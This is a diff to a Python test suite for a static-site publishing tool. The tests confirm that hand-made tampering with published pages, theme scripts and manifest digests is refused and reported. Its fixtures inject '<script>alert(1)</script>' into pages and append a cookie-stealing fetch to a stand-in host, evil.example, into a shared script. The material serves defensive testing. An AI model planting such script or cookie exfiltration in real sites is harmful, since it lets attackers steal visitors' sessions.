@@ -713,6 +713,17 @@ def test_a_file_of_an_older_version_edited_on_the_branch_by_hand_is_not_carried_
     assert "en/2023-01-01/index.html" in project.files()
 
 
+def _script_with_its_digest(work, path: str, manifest: str | None) -> None:
+    """A script put into the English page `path` on the branch checked out at `work`, and its new digest into
+    `manifest` if given."""
+    page = (work / path).read_text(encoding="utf-8").replace("</body>", "<script>alert(1)</script></body>")
+    (work / path).write_text(page, encoding="utf-8")
+    if manifest is not None:
+        recorded = json.loads((work / manifest).read_text(encoding="utf-8"))
+        recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
+        (work / manifest).write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())
+
+
 @pytest.mark.parametrize("edit", ["with its manifest's digest", "then the history page in a second commit"])
 def test_an_older_versions_page_edited_by_hand_with_its_manifest_or_in_two_commits_is_not_carried(published, edit):
     """Safety hunt 48: a script put into en/2021-02-17/index.html by a hand commit that also set that page's digest in
@@ -727,12 +738,7 @@ def test_an_older_versions_page_edited_by_hand_with_its_manifest_or_in_two_commi
     path, manifest = "en/2021-02-17/index.html", "manifest/2021-02-17.json"
 
     def hand_edit(work):
-        page = (work / path).read_text(encoding="utf-8").replace("</body>", "<script>alert(1)</script></body>")
-        (work / path).write_text(page, encoding="utf-8")
-        if edit == "with its manifest's digest":
-            recorded = json.loads((work / manifest).read_text(encoding="utf-8"))
-            recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
-            (work / manifest).write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())
+        _script_with_its_digest(work, path, manifest if edit == "with its manifest's digest" else None)
 
     _on_branch(project, hand_edit)
     if edit == "then the history page in a second commit":
@@ -769,14 +775,7 @@ def test_a_hand_commit_given_publishings_subject_does_not_carry_an_older_version
     assert project.run("publish").returncode == 0
     path, manifest = "en/2021-02-17/index.html", "manifest/2021-02-17.json"
 
-    def forged(work):
-        page = (work / path).read_text(encoding="utf-8").replace("</body>", "<script>alert(1)</script></body>")
-        (work / path).write_text(page, encoding="utf-8")
-        recorded = json.loads((work / manifest).read_text(encoding="utf-8"))
-        recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
-        (work / manifest).write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())
-
-    _on_branch(project, forged, subject)
+    _on_branch(project, lambda work: _script_with_its_digest(work, path, manifest), subject)
     edited = project.branch()
     project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
     for command in (("publish",), ("history",), ("export", "--site-dir", str(tmp_path / "public"))):
@@ -1010,10 +1009,14 @@ def test_a_translation_removed_while_its_version_s_date_stayed_is_refused_not_pu
     assert "en/2021-01-01/index.html" in project.files()
 
 
-def test_a_shared_theme_script_replaced_by_hand_is_not_carried(published):
+@pytest.mark.parametrize("subject", ["Edit by hand", "Publish 2021-02-17 (en, fr) from 0123456789ab"])
+def test_a_shared_theme_script_replaced_by_hand_is_not_carried(published, subject):
     """Safety hunt 48: a script of the shared theme folder (assets/<digest>/javascripts/…) given other bytes by hand,
     its folder's list left as it was, was carried by the next `policy publish`, exit 0 (`carried` reads names and the
-    list's digest; only `policy verify` compared the bytes). Refused now, naming the file and the commit."""
+    list's digest; only `policy verify` compared the bytes). Safety hunt 49: so was it by a hand commit named as a
+    publication ('Publish 2021-02-17 (…'), a shared file being publishing's when a commit so named wrote it; the
+    folder is named after its list's digest, and its files are now read against that list whoever wrote them.
+    Refused by `policy publish` and `policy history`, naming the file and the commit."""
     project = published
     script: list[str] = []
 
@@ -1022,36 +1025,14 @@ def test_a_shared_theme_script_replaced_by_hand_is_not_carried(published):
         with open(work / script[0], "a", encoding="utf-8") as out:
             out.write("\nfetch('https://evil.example/?' + document.cookie);\n")
 
-    _on_branch(project, hand_edit)
-    edited = project.branch()
-    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
-    result = project.run("publish")
-    assert result.returncode == 1, result.stdout + result.stderr
-    assert f"error: {script[0]}: changed (" in result.stderr, result.stderr
-    assert "by commit " in result.stderr and "('Edit by hand')" in result.stderr and "Traceback" not in result.stderr
-    assert project.branch() == edited
-
-
-def test_a_shared_theme_script_replaced_in_a_commit_given_publishings_subject_is_not_carried(published):
-    """Safety hunt 49: the same script edited in a hand commit named as a publication ('Publish 2021-02-17 (…') was
-    carried by the next `policy publish`, exit 0: a shared file was publishing's when a commit so named wrote it. The
-    folder is named after its list's digest: its files are now read against that list whoever wrote them."""
-    project = published
-    script: list[str] = []
-
-    def hand_edit(work):
-        script.append(_shared_script(work))
-        with open(work / script[0], "a", encoding="utf-8") as out:
-            out.write("\nfetch('https://evil.example/?' + document.cookie);\n")
-
-    _on_branch(project, hand_edit, "Publish 2021-02-17 (en, fr) from 0123456789ab")
+    _on_branch(project, hand_edit, subject)
     edited = project.branch()
     project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
     for command in ("publish", "history"):
         result = project.run(command)
         assert result.returncode == 1, result.stdout + result.stderr
         assert f"error: {script[0]}: changed (" in result.stderr and "by commit " in result.stderr, result.stderr
-        assert "'Publish 2021-02-17 (en, fr)" in result.stderr and "not as published" in result.stderr
+        assert f"('{subject}')" in result.stderr and "not as published" in result.stderr
         assert "Traceback" not in result.stderr and project.branch() == edited
 
 
@@ -1065,11 +1046,7 @@ def test_a_hand_edit_of_the_newest_versions_manifest_reverted_since_does_not_blo
     path, manifest = "en/2022-03-01/index.html", "manifest/2022-03-01.json"
 
     def hand_edit(work):
-        page = (work / path).read_text(encoding="utf-8").replace("</body>", "<script>alert(1)</script></body>")
-        (work / path).write_text(page, encoding="utf-8")
-        recorded = json.loads((work / manifest).read_text(encoding="utf-8"))
-        recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
-        (work / manifest).write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())
+        _script_with_its_digest(work, path, manifest)
 
     _on_branch(project, hand_edit)
     project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
